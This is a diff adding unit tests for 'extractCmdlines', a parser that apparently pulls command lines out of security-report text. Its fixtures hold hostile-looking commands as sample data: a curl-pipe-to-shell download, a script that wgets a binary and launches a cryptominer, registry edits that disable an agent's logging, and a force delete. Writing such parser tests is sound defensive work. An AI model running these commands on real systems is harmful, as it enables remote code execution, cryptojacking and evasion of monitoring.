@@ -329,4 +329,61 @@ describe('extractCmdlines', () => {
       'Invoke-WebRequest -Uri "https://a.example.test/z" -OutFile "$env:TEMP\\z.zip"',
     ]);
   });
+
+  it('reads a command whose output a variable captures in inline code', () => {
+    expect(values('Create it: ```QUEUE_URL=$(aws sqs create-queue --queue-name q1 --output text)``` then wait.')).toEqual([
+      'QUEUE_URL=$(aws sqs create-queue --queue-name q1 --output text)',
+    ]);
+  });
+
+  it('reads a command a script builds in a template literal, and drops a clipped literal \\n after a code line', () => {
+    const text = [
+      '```javascript',
+      'const cmd = `curl -fsSL "https://${host}/s.sh" | sh`;',
+      '```',
+      '',
+      '```',
+      'del "%%1" /f /q\\n',
+      '```',
+    ].join('\n');
+    expect(values(text)).toEqual(['curl -fsSL "https://${host}/s.sh" | sh', 'del "%%1" /f /q']);
+  });
+
+  it('does not read tools offered as alternatives ("grep / zgrep") as a command on the root path', () => {
+    expect(values('Logs can be searched with grep / zgrep, or any text tool.')).toEqual([]);
+    expect(values('They listed it with ls / -la on the host.')).toEqual(['ls / -la']);
+  });
+
+  it('keeps a word spelt like a function word when a switch follows it, after a quoted program path', () => {
+    expect(values('For example "C:\\Program Files\\Zipper\\zp.exe" a -r -- . E:\\out\\x The actor then left.')).toEqual([
+      '"C:\\Program Files\\Zipper\\zp.exe" a -r -- . E:\\out\\x',
+    ]);
+  });
+
+  it('reads a block a shebang marks as a shell script whatever its tag, with lines joined by shell operators and programs run by variable', () => {
+    const text = [
+      '```javascript',
+      '#!/bin/sh',
+      'ulimit -n 4096 ; export LANG=C',
+      'apk update;apk add socat',
+      'if ! type socat; then wget -q http://198.51.100.7/s -O /tmp/s ; fi',
+      './$BIN --donate-level 0 -o pool.example.test:443',
+      '```',
+    ].join('\n');
+    expect(values(text)).toEqual([
+      'ulimit -n 4096 ; export LANG=C',
+      'apk update;apk add socat',
+      'if ! type socat; then wget -q http://198.51.100.7/s -O /tmp/s ; fi',
+      './$BIN --donate-level 0 -o pool.example.test:443',
+    ]);
+  });
+
+  it('does not join a command to one after it across prose holding a lone "&"', () => {
+    const text =
+      'Script: reg add "HKLM\\Software\\Acme" /v "A" /t REG_DWORD /d "0" /f Turns off the agent. Logging & UI reg add "HKLM\\Software\\Acme\\Log" /v "B" /d "1" /f Stops logging of agent events.';
+    expect(values(text)).toEqual([
+      'reg add "HKLM\\Software\\Acme" /v "A" /t REG_DWORD /d "0" /f',
+      'reg add "HKLM\\Software\\Acme\\Log" /v "B" /d "1" /f',
+    ]);
+  });
 });
